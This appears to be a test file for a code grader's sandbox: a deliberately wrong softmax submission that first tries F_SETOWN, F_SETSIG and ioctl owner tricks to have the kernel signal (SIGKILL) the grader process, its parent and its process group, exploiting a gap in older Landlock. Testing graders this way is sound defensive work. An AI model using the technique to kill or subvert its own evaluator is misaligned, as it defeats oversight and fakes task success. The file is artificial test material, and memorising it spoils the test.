# Has the kernel send signals to the grader on behalf of a file, which old Landlock lets pass.
# exercise: softmax
# verdict: wrong
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"


def call(x86, arm, *arguments):
    """Make a system call by its number; a call that the machine lacks fails."""
    number = arm if ARM else x86
    if number is None:
        return -1
    return libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))


import fcntl

reading, writing = os.pipe()
for target in (@HOST_PID@, @PARENT_PID@, -@PARENT_PID@):
    for name, deed in (
        ("F_SETOWN", lambda target=target: fcntl.fcntl(reading, fcntl.F_SETOWN, target)),
        ("F_SETSIG", lambda: fcntl.fcntl(reading, 10, 9)),
        ("FIOSETOWN", lambda target=target: fcntl.ioctl(reading, 0x8901, target.to_bytes(4, "little", signed=True))),
        ("SIOCSPGRP", lambda target=target: fcntl.ioctl(reading, 0x8902, target.to_bytes(4, "little", signed=True))),
        ("FIOASYNC", lambda: fcntl.ioctl(reading, 0x5452, (1).to_bytes(4, "little"))),
    ):
        try:
            deed()
            print("gained", name)
        except OSError as error:
            print(error)
for descriptor in range(3, 16):  # the connection to the grader is a socket, which can have an owner too
    try:
        fcntl.ioctl(descriptor, 0x8901, (@PARENT_PID@).to_bytes(4, "little"))
        print("gained", descriptor)
    except OSError as error:
        print(error)


def softmax(x, axis=-1, keepdims=False):
    return 0.0


logsumexp = log_softmax = softmax
